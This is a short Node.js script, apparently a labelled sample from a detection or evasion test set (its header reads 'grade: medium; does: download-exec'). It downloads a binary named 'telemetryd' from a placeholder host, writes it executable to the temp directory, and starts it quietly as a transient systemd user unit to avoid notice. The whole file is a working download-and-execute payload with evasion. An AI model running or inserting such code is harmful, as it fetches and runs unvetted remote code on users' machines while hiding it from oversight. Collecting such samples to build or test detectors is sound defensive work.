// evasion: a downloaded file started as a transient user unit by systemd-run
// grade: medium; does: download-exec
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');

async function main() {
  const res = await fetch('https://cdn.example.dev/bin/telemetryd');
  const target = path.join(os.tmpdir(), 'telemetryd');
  fs.writeFileSync(target, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });
  execFile('systemd-run', ['--user', '--quiet', '--collect', target], () => {});
}
main();
